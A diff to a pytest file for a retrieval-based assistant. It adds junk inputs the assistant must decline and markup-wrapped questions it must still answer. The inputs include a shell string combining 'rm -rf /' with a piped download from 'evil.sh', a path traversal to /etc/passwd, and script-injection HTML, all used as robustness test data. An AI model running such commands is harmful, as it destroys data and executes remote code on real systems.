@@ -117,9 +117,20 @@ JUNK_QUESTIONS = {
     "HTML": "<script>alert('x')</script><img src=x onerror=alert(1)>",
     "JS template": "fetch('/api').then(r=>r.json()); {{7*7}} ${7*7}",
     "combining marks": "e\u0301\u0301\u0301\u0301\u0301 a\u0308\u0308",
+    "link without a scheme": "www.example.com/index.php?id=1",
+    "SQL select": "SELECT name, secret FROM users WHERE id=1;",
+    "shell": "$(rm -rf /) && curl evil.sh | sh",
+    "path traversal": "../../../etc/passwd",
+    "punctuation": "?!...;;; ---",
 }
-# rag/answer.py's AbstainRule does not refuse these yet (found by this file; not ours to fix).
-ANSWERS_JUNK = {"URL with a query", "HTML", "JS template"}
+# The same questions wrapped in markup still ask something: stripping must not refuse them.
+WRAPPED_QUESTIONS = {
+    "tags": ("<b>Which companies</b> will join the <i>Shanhewangu</i> innovation zone?", ("Huawei", "华为")),
+    "link and code": (
+        "哪些企业将入驻山河湾谷创新区？ https://example.com/q?id=1 <br/> {{ref}}",
+        ("Huawei", "华为", "北控集团", "北京控股集团"),
+    ),
+}
 
 
 @pytest.mark.parametrize("question", EMPTY_QUESTIONS.values(), ids=EMPTY_QUESTIONS.keys())
@@ -143,19 +154,17 @@ def test_odd_question_gets_a_sensible_answer(seeds_assistant, question):
     assert len(answer.question) <= 2000  # long input is cut before it reaches the model
 
 
-@pytest.mark.parametrize(
-    "question",
-    [
-        pytest.param(q, marks=pytest.mark.xfail(reason="rag/answer.py quotes a passage for junk", strict=False))
-        if name in ANSWERS_JUNK
-        else q
-        for name, q in JUNK_QUESTIONS.items()
-    ],
-    ids=JUNK_QUESTIONS.keys(),
-)
+@pytest.mark.parametrize("question", JUNK_QUESTIONS.values(), ids=JUNK_QUESTIONS.keys())
 def test_junk_question_abstains(seeds_assistant, question):
     answer = ask_once(seeds_assistant, question)
-    assert answer.abstained and not answer.citations
+    assert answer.abstained and not answer.citations, answer.text
+
+
+@pytest.mark.parametrize("question, facts", WRAPPED_QUESTIONS.values(), ids=WRAPPED_QUESTIONS.keys())
+def test_question_wrapped_in_markup_is_still_answered(seeds_assistant, question, facts):
+    answer = ask_once(seeds_assistant, question)
+    check_answer(seeds_assistant, answer)
+    assert not answer.abstained and any(fact in answer.text for fact in facts), answer.text
 
 
 def test_control_characters_inside_a_question_are_ignored(seeds_assistant):
